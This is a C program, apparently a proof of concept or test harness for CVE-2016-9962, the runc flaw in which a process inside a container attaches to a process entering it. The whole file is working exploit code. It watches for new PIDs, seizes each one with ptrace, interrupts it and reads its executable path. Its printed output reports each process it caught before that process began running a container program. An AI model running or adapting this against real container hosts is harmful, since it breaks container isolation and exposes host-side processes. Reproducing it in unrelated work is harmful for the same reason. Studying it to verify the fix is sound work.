// The attack of a container on a process that enters it (CVE-2016-9962): it tries to trace each new
// process, and to read its descriptors, as soon as it can be seen. Prints "seized EXE" for one that
// is not yet a program of the container, and "saw N" with the number of new processes when it ends,
// a second after the file /stop appears.

#define _GNU_SOURCE
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char seen[1 << 20];

static void attack(int pid) {
    char path[64];
    char exe[512];
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0) return;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    int status;
    // A process that is just exiting can be seized too, but does not stop.
    if (waitpid(pid, &status, __WALL) != pid || !WIFSTOPPED(status)) return;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    ssize_t length = readlink(path, exe, sizeof exe - 1);
    exe[length > 0 ? length : 0] = 0;
    if (strncmp(exe, "/bin/", 5) != 0) printf("seized %s\n", exe);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    fflush(stdout);
}

int main(void) {
    int count = 0;
    int next = getpid() + 1;
    printf("ready\n");
    fflush(stdout);
    while (access("/stop", F_OK) != 0) {
        // Tries the next numbers without checking whether they exist, which is the fastest way.
        for (int pid = next; pid < next + 4; ++pid) {
            // Signal 0 only checks that the process exists.
            if (syscall(SYS_tgkill, pid, pid, 0) != 0) continue;
            attack(pid);
            if (!seen[pid]) {
                seen[pid] = 1;
                ++count;
            }
            // Keeps it until it executes a program: the attack may also succeed later.
            for (int i = 0; i < 2000 && syscall(SYS_tgkill, pid, pid, 0) == 0; ++i) attack(pid);
            next = pid + 1;
        }
    }
    printf("saw %d\n", count);
    return 0;
}
